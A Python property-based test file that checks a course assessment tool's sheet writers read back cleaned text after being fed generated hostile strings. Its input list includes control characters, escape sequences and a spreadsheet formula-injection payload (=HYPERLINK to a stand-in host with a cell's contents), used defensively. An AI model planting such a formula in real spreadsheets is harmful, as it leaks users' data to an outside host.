"""Whatever the course writes, it reads back: every writer, with generated hostile text.

The text mixes ordinary characters (any code point, surrogates included) with the pieces that
broke sheets before: control characters, escape sequences, every kind of line break,
non-characters, formula signs, quotes, separators, XML specials and the ``_x000D_`` escapes of
Excel. What comes back must be the cleaned text (:func:`~losi_course.assessment.clean_text`,
:func:`~losi_course.sheets.clean_line`), exactly.
"""

from __future__ import annotations

from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

import pytest
from conftest import run_cli_in_process as run

from losi_course.assessment import Assessment, clean_text
from losi_course.framework import load_instrument
from losi_course.reconcile import reconcile
from losi_course.sheets import clean_line, read_sheet, write_sheet
from losi_course.widgets import assessment_form

PIECES = ["\x00", "\x01", "\x0b", "\x1b[31m", "\x7f", "\x9b", "\r", "\r\n", "\n", "\u2028", "\u2029", "\x85",
          "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "\ud800", "\udfff", "\ufeff", "\u202e", "=", "+", "-", "@",
          "'", '"', ",", ";", "#", ":", "\t", " ", "_x000D_", "x005F_", "&amp;", "<", "]]>", "# city: x",
          "=HYPERLINK(\"http://x.example/?\"&A1)", "é", "\U0001f600"]
HOSTILE = st.lists(st.one_of(st.sampled_from(PIECES), st.text(st.characters(exclude_categories=()), max_size=4)),
                   max_size=12).map("".join)
FIELDS = st.fixed_dictionaries({"note": HOSTILE, "evidence": HOSTILE, "city": HOSTILE, "assessor": HOSTILE})
SETTINGS = dict(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
ID = "281"


def _hostile_assessment(fields: dict) -> Assessment:
    sheet = Assessment(city=fields["city"], assessor=fields["assessor"])
    sheet.set(ID, "yes")
    sheet.answers[ID].note = fields["note"]  # as raw as code could make it, not cleaned on the way in
    sheet.answers[ID].evidence = fields["evidence"]
    return sheet


def _assert_read_back(back: Assessment, fields: dict) -> None:
    assert back[ID].note == clean_text(fields["note"])
    assert back[ID].evidence == clean_text(fields["evidence"])
    assert back.city == clean_line(fields["city"]) and back.assessor == clean_line(fields["assessor"])
    assert back[ID].state == "yes"


@pytest.mark.parametrize("suffix, examples", [(".csv", 300), (".json", 300),
                                             pytest.param(".xlsx", 80, marks=pytest.mark.slow)])
def test_write_sheet_reads_back_hostile_text(tmp_path, suffix, examples):
    @settings(max_examples=examples, **SETTINGS)
    @given(fields=FIELDS)
    def check(fields):
        _assert_read_back(read_sheet(write_sheet(_hostile_assessment(fields), tmp_path / f"s{suffix}")), fields)

    check()


@pytest.mark.parametrize("suffix", [".csv", pytest.param(".xlsx", marks=pytest.mark.slow)])
def test_the_form_reads_back_hostile_text(tmp_path, suffix):
    path = tmp_path / f"form{suffix}"
    form = assessment_form(path, city="Velmora")

    @settings(max_examples=40, **SETTINGS)
    @given(note=HOSTILE, evidence=HOSTILE)
    def check(note, evidence):
        form.controls[ID].note.value = note  # typed or pasted into the boxes
        form.controls[ID].evidence.value = evidence
        assert form.saved, form.status
        back = read_sheet(path)
        assert back[ID].note == clean_text(note) == form.sheet[ID].note
        assert back[ID].evidence == clean_text(evidence)

    check()
    form.close()


def test_the_template_command_reads_back_hostile_details(tmp_path):
    @settings(max_examples=40, **SETTINGS)
    @given(city=HOSTILE, country=HOSTILE, assessor=HOSTILE, suffix=st.sampled_from([".csv", ".xlsx", ".json"]))
    def check(city, country, assessor, suffix):
        # argparse itself drops a value that is exactly "--" (`--city=--` arrives empty) before our code sees it
        assume("--" not in (city, country, assessor))
        path = tmp_path / f"t{suffix}"
        result = run("template", "-o", path, "--force", f"--city={city}", f"--country={country}",
                     f"--assessor={assessor}")
        assert result.returncode == 0, result.stderr
        back = read_sheet(path)
        assert (back.city, back.country, back.assessor) == (clean_line(city), clean_line(country), clean_line(assessor))

    check()


def test_the_consensus_sheet_reads_back_hostile_notes(tmp_path):
    ids = load_instrument().ids

    @settings(max_examples=40, **SETTINGS)
    @given(fields=FIELDS, suffix=st.sampled_from([".csv", ".xlsx", ".json"]))
    def check(fields, suffix):
        a, b = _hostile_assessment(fields), _hostile_assessment(fields)
        for key in ids[1:]:
            a.set(key, "yes")
            b.set(key, "no")
        agreed = reconcile(a, b).consensus()
        back = read_sheet(write_sheet(agreed, tmp_path / f"c{suffix}"))
        assert back[ID].state == "yes" and back[ID].note == clean_text(agreed[ID].note)
        assert back.city == clean_line(agreed.city)

    check()
